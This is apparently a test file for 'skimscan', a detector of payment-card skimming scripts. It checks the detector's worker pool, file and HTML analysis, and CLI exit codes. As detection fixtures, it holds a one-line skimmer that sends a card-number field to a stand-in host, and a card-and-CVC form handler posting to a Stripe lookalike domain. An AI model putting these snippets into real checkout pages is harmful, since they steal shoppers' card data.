// The worker pool: budgets, dedupe, the compiled-engine path; analyzeFiles and the analyze command.
import { beforeAll, describe, expect, test } from 'vitest';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Command } from 'commander';
import { Analyzer, analyzeFiles, sha256, extractInlineScripts } from '../../src/analyse/index.js';
import { compiledEnginePath } from '../../src/analyse/pool.js';
import { registerAnalyze } from '../../src/cli/commands/analyze.js';

const ROOT = join(import.meta.dirname, '..', '..');
const SKIM = "var v = document.getElementById('cc-number').value; navigator.sendBeacon('https://x.example/b', v);";

beforeAll(() => {
  if (!compiledEnginePath()) {
    try {
      execFileSync('npx', ['tsc', '-p', 'tsconfig.json'], { cwd: ROOT, stdio: 'ignore' });
    } catch {
      /* type errors elsewhere still emit JS */
    }
  }
}, 120_000);

describe('Analyzer pool', () => {
  test('runs in workers from the compiled engine, dedupes by hash', async () => {
    const a = new Analyzer({ workers: 2, timeoutMs: 20_000 });
    try {
      expect(a.pooled).toBe(true);
      const input = { sha256: sha256(SKIM), source: SKIM, url: null, kind: 'inline' as const };
      const [r1, r2] = await Promise.all([a.analyse(input), a.analyse(input)]);
      expect(r1).toBe(r2);
      expect(r1.findings.some((f) => f.ruleId === 'skimmer' && f.severity === 'critical')).toBe(true);
      const r3 = await a.analyse(input);
      expect(r3.findings.length).toBe(r1.findings.length);
    } finally {
      await a.close();
    }
  });

  test('a script over its time budget gets analysis-timeout, and the pool goes on', async () => {
    const a = new Analyzer({ workers: 1, timeoutMs: 300 });
    try {
      // a rotation loop that never matches its checksum burns the interpreter budget; a huge
      // generated program makes the parse itself slow enough to overrun 300 ms
      const big = 'var a = [' + Array.from({ length: 400_000 }, (_, i) => `'s${i}'`).join(',') + '];\n' + SKIM;
      const slow = await a.analyse({ sha256: sha256(big), source: big, url: null, kind: 'inline' });
      expect(slow.findings.map((f) => f.ruleId)).toContain('analysis-timeout');
      const ok = await a.analyse({ sha256: sha256(SKIM), source: SKIM, url: null, kind: 'inline' });
      expect(ok.findings.some((f) => f.ruleId === 'skimmer')).toBe(true);
    } finally {
      await a.close();
    }
  });

  test('5,000 levels of nesting finish or fail cleanly', async () => {
    const a = new Analyzer({ workers: 1, timeoutMs: 20_000 });
    try {
      const deep = 'var x = ' + '['.repeat(5000) + ']'.repeat(5000) + ';\n' + '('.repeat(5000) + '1' + ')'.repeat(5000) + ';';
      const r = await a.analyse({ sha256: sha256(deep), source: deep, url: null, kind: 'inline' });
      expect(r.sha256).toBe(sha256(deep));
    } finally {
      await a.close();
    }
  });
});

describe('analyzeFiles', () => {
  test('js, html with file line numbers, binary, oversized, missing', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'skimscan-analyze-'));
    mkdirSync(join(dir, 'sub'));
    writeFileSync(join(dir, 'skim.js'), SKIM);
    writeFileSync(join(dir, 'clean.js'), 'console.log(1);');
    writeFileSync(join(dir, 'sub', 'page.html'), `<html>\n<body>\n<p>pay</p>\n<script>\n${SKIM}\n</script>\n</body></html>`);
    writeFileSync(join(dir, 'bin.js'), Buffer.from([0, 1, 2, 3, 0, 0]));
    writeFileSync(join(dir, 'big.js'), 'x'.repeat(2000));
    const report = await analyzeFiles([dir, join(dir, 'missing.js')], { maxBytes: 1000, workers: 0 });
    const by = Object.fromEntries(report.files.map((f) => [f.path.slice(dir.length + 1) || f.path, f]));
    expect(report.schemaVersion).toBe(1);
    expect(by['skim.js']!.verdict).toBe('compromised');
    expect(by['clean.js']!.verdict).toBe('clean');
    expect(by['bin.js']!.verdict).toBe('error');
    expect(by['big.js']!.error?.code).toBe('too-large');
    expect(by['sub/page.html']!.verdict).toBe('compromised');
    expect(by['sub/page.html']!.findings.find((f) => f.ruleId === 'skimmer')!.line).toBe(5);
    expect(report.files.find((f) => f.path.endsWith('missing.js'))!.verdict).toBe('error');
  });

  test('inline script extraction keeps line numbers', () => {
    const s = extractInlineScripts('<p>\n<script src="a.js"></script>\n<script type="text/template">x</script>\n<script>\nvar a;\n</script>');
    expect(s).toHaveLength(1);
    expect(s[0]!.line).toBe(4);
  });

  test('inline event handlers and javascript: URLs are code too, entities decoded, at their line and column', () => {
    const html = [
      '<body>',
      '<!-- <img onerror="commented()"> -->',
      '<script>var t = "<b onclick=\'inScript()\'>";</script>',
      '<svg width="1px"><path d="M0 0"',
      '  onload="eval(atob(&quot;YQ==&quot;))"></path></svg>',
      "<a href='javascript:go(%22x%22)' onclick=run()>x</a>",
    ].join('\n');
    const s = extractInlineScripts(html);
    expect(s.map((x) => [x.kind, x.code, x.line])).toEqual([
      ['inline', 'var t = "<b onclick=\'inScript()\'>";', 3],
      ['event-handler', 'eval(atob("YQ=="))', 5],
      ['javascript-url', 'go("x")', 6],
      ['event-handler', 'run()', 6],
    ]);
    expect(s[1]!.column).toBe(11);
  });
});

describe('skimscan analyze', () => {
  async function run(args: string[]) {
    let out = '';
    let err = '';
    let code = -1;
    const program = new Command().exitOverride();
    registerAnalyze(program, { stdout: (s) => (out += s), stderr: (s) => (err += s), setExitCode: (n) => (code = n) });
    await program.parseAsync(['analyze', ...args], { from: 'user' });
    return { out, err, code };
  }
  test('exit codes and JSON', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'skimscan-cli-'));
    writeFileSync(join(dir, 'skim.js'), SKIM);
    writeFileSync(join(dir, 'clean.js'), 'console.log(1);');
    const r1 = await run([join(dir, 'skim.js'), '--json', '-']);
    expect(r1.code).toBe(1);
    expect(JSON.parse(r1.out).files[0].verdict).toBe('compromised');
    expect(r1.err).toMatch(/compromised/);
    expect((await run([join(dir, 'clean.js')])).code).toBe(0);
    expect((await run([join(dir, 'skim.js'), '--fail-on', 'none'])).code).toBe(0);
    expect((await run([join(dir, 'clean.js'), join(dir, 'nope.js')])).code).toBe(2);
  });
  test('card data sent to a well-known processor (a tokenising checkout) is low; the same code sending elsewhere is not', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'skimscan-cli-'));
    const tokenise = (url: string) => `document.getElementById('payment-form').addEventListener('submit', function (ev) {
  ev.preventDefault();
  var b = new URLSearchParams();
  b.append('card[number]', document.querySelector('[data-stripe="number"]').value);
  b.append('card[cvc]', document.querySelector('[data-stripe="cvc"]').value);
  fetch('${url}', { method: 'POST', headers: { Authorization: 'Bearer ' + window.pk }, body: b });
});`;
    writeFileSync(join(dir, 'processor.js'), tokenise('https://api.stripe.com/v1/tokens'));
    writeFileSync(join(dir, 'lookalike.js'), tokenise('https://api.stripe.com.tokens-v1.example/v1/tokens'));
    const r = await run([join(dir, 'processor.js'), join(dir, 'lookalike.js'), '--json', '-']);
    const files = JSON.parse(r.out).files as Array<{ path: string; verdict: string; findings: Array<{ ruleId: string; severity: string; message: string; evidence: Record<string, unknown> }> }>;
    const processor = files.find((f) => f.path.endsWith('processor.js'))!;
    const skim = processor.findings.find((f) => f.ruleId === 'skimmer')!;
    expect(skim.severity).toBe('low');
    expect(skim.evidence.loweredFrom).toBe('critical');
    expect(skim.message).toMatch(/allowed processor/);
    expect(processor.verdict).toBe('clean');
    expect(files.find((f) => f.path.endsWith('lookalike.js'))!.verdict).toBe('compromised');
    expect(r.code).toBe(1);
  });
});
